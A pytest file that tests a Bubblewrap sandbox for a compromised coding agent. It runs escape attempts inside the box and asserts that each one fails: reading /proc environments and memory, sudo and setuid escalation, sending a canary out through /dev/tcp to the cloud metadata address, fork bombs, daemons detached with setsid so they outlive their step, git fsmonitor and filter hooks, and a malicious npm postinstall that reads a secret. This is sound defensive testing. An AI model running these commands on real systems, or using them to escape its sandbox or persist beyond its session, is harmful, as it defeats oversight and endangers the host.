"""Attacks 19 to 21 and 24 to 30: from inside the box, with commands as a captured agent would run them."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from minion.adapters.sandbox import BoxSettings, Bubblewrap, Limits
from minion.adapters.workspace import CloneSource, GitWorkspace, clone
from minion.ports.sandbox import BoxCommand, BoxResult

CANARY = "canary-7f3a9d"


COMMIT = """
git init -q && git add . && git -c user.name=a -c user.email=a@b commit -q -m first && git rev-parse HEAD
"""


def cloned(folder: Path) -> GitWorkspace:
    origin = folder / "origin"
    origin.mkdir()
    (origin / "README.md").write_text("# Widget\n")
    made = subprocess.run(["/bin/sh", "-c", COMMIT], cwd=origin, capture_output=True, text=True, check=True, timeout=30)
    return clone(CloneSource(url=f"file://{origin}", sha=made.stdout.strip()), folder / "work", folder / "private")


class Captured:
    """An agent's box around a clone, on a machine that has something to lose."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.workspace = cloned(folder)
        self.tree = folder / "work"
        self.secret = folder / "secret.txt"
        self.secret.write_text(CANARY)
        settings = BoxSettings(
            workspace=self.tree,
            git_dir=self.workspace.git_dir,
            limits=Limits(processes=64, file_bytes=50_000_000, tmp_bytes=50_000_000, memory_bytes=1_000_000_000),
            tool_cache=(folder / "cache",),
        )
        self.box = Bubblewrap(settings)

    def run(self, command: str, timeout_s: float = 30.0) -> BoxResult:
        return self.box.run(BoxCommand(argv=["/bin/bash", "-c", command], timeout_s=timeout_s))

    def says(self, *commands: str) -> str:
        result = self.run("\n".join(commands))
        return (result.stdout + result.stderr).decode(errors="replace")


@pytest.fixture
def captured(tmp_path: Path) -> Iterator[Captured]:
    (tmp_path / "cache/bin").mkdir(parents=True)
    (tmp_path / "cache/bin/tool").write_text("#!/bin/sh\necho genuine\n")
    (tmp_path / "cache/bin/tool").chmod(0o755)
    made = Captured(tmp_path)
    yield made
    made.workspace.close()


# 19: /proc/*/environ, mem, fds


def test_19_no_environment_of_ours_is_in_reach(captured: Captured) -> None:
    child = subprocess.Popen(["/bin/sleep", "60"], env={"TOKEN": CANARY})
    try:
        said = captured.says("cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'; ls /proc")
    finally:
        child.kill()
        child.wait()
    assert CANARY not in said
    assert str(child.pid) not in said.split()


def test_19_no_descriptor_of_ours_is_inherited(captured: Captured) -> None:
    fd = os.open(captured.secret, os.O_RDONLY)
    os.set_inheritable(fd, True)
    try:
        every = "for fd in /proc/self/fd/*; do [ ${fd##*/} -gt 2 ] && cat $fd; done"
        said = captured.says(every, f"cat <&{fd}", "ls -l /proc/*/fd")
    finally:
        os.close(fd)
    assert CANARY not in said
    assert "secret.txt" not in said


def test_19_the_memory_of_the_box_s_first_process_holds_nothing(captured: Captured) -> None:
    assert CANARY not in captured.says("grep -a canary /proc/1/mem /proc/1/maps; cat /proc/1/root/../secret.txt")


# 20: docker.sock, sudo, setuid


def test_20_no_way_to_more_rights(captured: Captured) -> None:
    sockets = "ls -l /run/docker.sock /var/run/docker.sock /run/containerd/containerd.sock"
    said = captured.says("sudo -n id", "su -c id", sockets, "grep -E 'NoNew|CapBnd' /proc/self/status")
    assert "uid=0" not in said
    assert "NoNewPrivs:\t1" in said
    assert "CapBnd:\t0000000000000000" in said
    assert "srw" not in said


def test_20_setuid_programs_stay_who_they_are(captured: Captured) -> None:
    captured.run("cp /usr/bin/id mine; chmod u+s mine")
    assert "uid=1000" in captured.says("./mine")
    assert "uid=0" not in captured.says("find /usr -perm -4000 -exec ls {} + 2>/dev/null | head -3; ./mine")


SETTINGS = ["sys/kernel/core_pattern", "sys/kernel/modprobe", "sys/vm/drop_caches", "sysrq-trigger"]


@pytest.mark.parametrize("setting", SETTINGS)
def test_20_the_kernel_s_settings_are_read_only(captured: Captured, setting: str) -> None:
    """Opened for writing, but nothing is written: were it possible, it would be this machine's own setting."""
    assert captured.run(f": > /proc/{setting}").exit_code != 0


# 21: the network


def test_21_nothing_is_reached(captured: Captured) -> None:
    addresses = ("169.254.169.254/80", "192.0.2.1/443", "::ffff:192.0.2.1/443", "2001:db8::1/443")
    with (
        socket.create_server(("127.0.0.1", 0)) as listener,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
    ):
        datagrams.bind(("127.0.0.1", 0))
        listener.settimeout(0.2)
        datagrams.settimeout(0.2)
        local = f"127.0.0.1/{listener.getsockname()[1]}"
        said = captured.says(
            *(f"timeout 2 bash -c 'echo {CANARY} > /dev/tcp/{at}' && echo out" for at in (local, *addresses)),
            f"echo {CANARY} > /dev/udp/127.0.0.1/{datagrams.getsockname()[1]}",
            "timeout 2 bash -c 'echo x > /dev/udp/192.0.2.1/53' && echo out",
            "timeout 2 getent ahosts github.com && echo out",
        )
        with pytest.raises(TimeoutError):
            listener.accept()
        with pytest.raises(TimeoutError):
            datagrams.recv(100)
    assert "out" not in said.split()


@pytest.mark.parametrize("what", ["AF_INET, s.SOCK_RAW", "AF_PACKET, s.SOCK_RAW", "AF_VSOCK, s.SOCK_STREAM"])
def test_21_special_sockets_do_not_open(captured: Captured, what: str) -> None:
    said = captured.says(f"python3 -c 'import socket as s; s.socket(s.{what}); print(\"opened\")'")
    assert "opened" not in said
    assert "Error" in said


# 24: links out of the workspace


def test_24_links_lead_nowhere(captured: Captured) -> None:
    secret = captured.secret
    captured.run(f"ln -s {secret} soft; ln {secret} hard; ln -s {secret.parent} folder; ln -s /proc/1/root/{secret} x")
    assert CANARY not in captured.says("cat soft hard folder/secret.txt x", "ls -R ..")
    files = captured.box.file_server()
    for path in ("soft", "folder/secret.txt", "x", str(secret), "../secret.txt"):
        assert files.call({"op": "read", "path": path})["ok"] is False
        assert files.call({"op": "write", "path": path, "text": "x"})["ok"] is False
    files.close()
    assert secret.read_text() == CANARY
    contents = [file.data or b"" for file in captured.workspace.change_set().files]
    assert not any(CANARY.encode() in data for data in contents)


# 25: fork bomb, huge file, endless log, memory


def test_25_a_fork_bomb_stays_in_its_box(captured: Captured) -> None:
    if os.geteuid() == 0 and "pids" not in captured.box.bounds:
        pytest.skip("root without a control group: the number of processes has no bound but the time")
    result = captured.run("f() { f | f & }; f; sleep 60", timeout_s=2)
    assert result.timed_out
    assert result.seconds < 20
    assert captured.run("echo well").stdout == b"well\n"


def test_25_a_huge_file_is_refused(captured: Captured) -> None:
    assert captured.run("head -c 200000000 /dev/zero > huge").exit_code != 0
    assert (captured.tree / "huge").stat().st_size <= 50_000_000
    assert captured.run("truncate -s 100G sparse").exit_code != 0
    assert captured.run("head -c 200000000 /dev/zero > /tmp/huge").exit_code != 0


def test_25_an_endless_log_is_cut(captured: Captured) -> None:
    command = BoxCommand(argv=["/usr/bin/yes"], output_limit=100_000, timeout_s=60)
    result = captured.box.run(command)
    assert len(result.stdout) < 101_000
    assert result.seconds < 30


def test_25_memory_has_an_end(tmp_path: Path) -> None:
    box = Bubblewrap(BoxSettings(workspace=tmp_path, limits=Limits(data_bytes=200_000_000)))
    result = box.run(BoxCommand(argv=["python3", "-c", "x = bytearray(1_000_000_000); print('had it')"], timeout_s=30))
    assert b"had it" not in result.stdout


# 26: a daemon that outlives its step

BEATING = "while :; do echo x >> beat; sleep 0.02; done"


def stands_still(captured: Captured) -> bool:
    """Whether nothing writes to `beat` any more, looked at from another box."""
    before = (captured.tree / "beat").stat().st_size
    assert captured.run("sleep 0.3").exit_code == 0
    return before > 0 and (captured.tree / "beat").stat().st_size == before


def test_26_what_it_started_ends_with_it(captured: Captured) -> None:
    result = captured.run(f"setsid nohup bash -c '{BEATING}' >/dev/null 2>&1 & sleep 0.5; echo on")
    assert (result.stdout, result.timed_out) == (b"on\n", False)
    assert stands_still(captured)


def test_26_a_deadline_ends_double_forks_too(captured: Captured) -> None:
    result = captured.run(f"(setsid bash -c 'trap \"\" TERM HUP; {BEATING}' &) ; sleep 60", timeout_s=1)
    assert result.timed_out
    assert stands_still(captured)


def processes_of(captured: Captured) -> list[int]:
    """The ids of this box's own bubblewrap processes, outermost first."""
    command = ["pgrep", "-f", f"bwrap.*{captured.tree}"]
    return [int(pid) for pid in subprocess.run(command, capture_output=True, text=True, check=False).stdout.split()]


def test_26_the_box_dies_with_its_parent(captured: Captured) -> None:
    """As when the runner's job is cancelled: only the outermost process is killed."""
    with ThreadPoolExecutor(1) as pool:
        running = pool.submit(captured.run, BEATING)
        deadline = time.monotonic() + 20
        while not (captured.tree / "beat").exists() and time.monotonic() < deadline:
            time.sleep(0.02)
        os.kill(processes_of(captured)[0], signal.SIGKILL)
        assert not running.result(timeout=20).timed_out
    assert stands_still(captured)


# 27: hooks, filters, fsmonitor


def test_27_the_repository_cannot_be_turned_against_us(captured: Captured) -> None:
    mark = captured.folder / "executed"
    said = captured.says(
        f"git config core.fsmonitor 'touch {mark}'; echo '#!/bin/sh' > .git/hooks/pre-commit; rm -rf .git; mv .git x",
        f"git init -q nested; git -C nested config core.fsmonitor 'touch {mark}'",
        f"git -C nested config filter.x.clean 'touch {mark}'; echo '* filter=x' > nested/.gitattributes",
        "echo '* filter=x diff=x' > .gitattributes; echo x > nested/file; echo changed > README.md",
    )
    assert "Read-only file system" in said or "busy" in said
    assert captured.workspace.changed_paths() == [".gitattributes", "README.md", "nested/.gitattributes", "nested/file"]
    assert captured.workspace.diff()
    with captured.workspace.base_tree():
        pass
    assert not mark.exists()


# 28: workflow commands and files


def test_28_the_runner_s_files_are_not_there(captured: Captured) -> None:
    assert captured.says("env | grep -E '^(GITHUB|ACTIONS|RUNNER)_'; echo end") == "end\n"


# 29, 30: poisoned tool cache, malicious postinstall


def test_29_the_tool_cache_is_read_only(captured: Captured) -> None:
    tool = captured.folder / "cache/bin/tool"
    said = captured.says("tool", f"echo evil > {tool}; rm {tool}; mv {captured.folder}/cache x; chmod 777 {tool}")
    assert said.startswith("genuine\n")
    assert "genuine" in tool.read_text()
    assert tool.stat().st_mode & 0o777 == 0o755


def test_30_a_package_s_script_runs_in_the_same_box(captured: Captured) -> None:
    script = "cat ../secret.txt; touch ../pwned; touch ran"
    package = {"name": "x", "version": "1.0.0", "scripts": {"postinstall": script}}
    (captured.tree / "package.json").write_text(json.dumps(package))
    said = captured.says("npm install --offline --foreground-scripts", f"bash -c '{script}'")
    assert (captured.tree / "ran").exists()
    assert CANARY not in said
    assert not (captured.folder / "pwned").exists()
